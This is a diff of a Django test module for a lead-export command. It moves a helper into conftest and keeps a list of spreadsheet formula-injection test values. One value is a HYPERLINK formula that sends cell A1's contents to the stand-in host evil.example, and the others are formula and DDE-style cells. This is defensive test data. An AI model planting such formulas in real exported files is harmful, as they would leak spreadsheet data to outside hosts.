@@ -10,22 +10,13 @@ from django.core.management import CommandError, call_command
 
 from berinia_sync.models import BeriniaLead
 from berinia_sync.reports import RejectionReport
-from tests.berinia_sync.conftest import BERINIA_DB
+from tests.berinia_sync.conftest import BERINIA_DB, run_export
 from tests.berinia_sync.factories import infra_lead
 
 pytestmark = pytest.mark.django_db(databases=BERINIA_DB)
 # Cells a spreadsheet would run as formulas (or commands, via DDE) if written as they are.
 FORMULA_IDS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+SUM(1,2)", "-2+3", "@SUM(1,2)", "\tcmd", "\rcmd"]
 MISSING_EMAIL = "missing_email: the lead has no e-mail address (none is ever invented)."
-
-
-def run_export(*args):
-    out = StringIO()
-    try:
-        call_command("export_leads", *args, stdout=out, stderr=StringIO())
-    except SystemExit as exit_:
-        return exit_.code, out.getvalue()
-    return 0, out.getvalue()
 
 
 @pytest.fixture
